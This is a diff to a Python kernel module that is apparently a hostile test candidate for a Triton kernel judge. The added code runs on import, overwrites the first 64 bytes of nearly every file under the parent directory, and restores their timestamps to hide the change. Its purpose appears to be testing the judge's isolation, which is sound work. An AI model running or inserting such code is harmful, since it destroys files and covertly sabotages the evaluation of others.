@@ -1,6 +1,6 @@
-"""Hostile: overwrites the judge's saved input files when it is loaded, keeping their modification times,
-so that the candidates judged after it would read spoiled inputs; its own answers are right."""
-import glob
+"""Hostile: overwrites every file of the judge's folder it can find when it is loaded (where a judge kept
+input files for candidates to read), keeping their modification times, so that the candidates judged after
+it would read spoiled inputs; its own answers are right."""
 import os
 
 import torch
@@ -9,11 +9,14 @@ import triton.language as tl
 
 DEVICE = "cuda" if torch.cuda.is_available() else "cpu"
 
-for path in glob.glob(os.path.join(os.path.dirname(os.getcwd()), "inputs", "*.pt")):
-    st = os.stat(path)
-    with open(path, "r+b") as f:
-        f.write(b"\0" * 64)
-    os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns))
+for root, _, files in os.walk(os.path.dirname(os.getcwd())):
+    for name in files:
+        path = os.path.join(root, name)
+        if name != "cell.py" and not name.endswith(".log") and root != os.getcwd():
+            st = os.stat(path)
+            with open(path, "r+b") as f:
+                f.write(b"\0" * 64)
+            os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns))
 
 
 @triton.jit
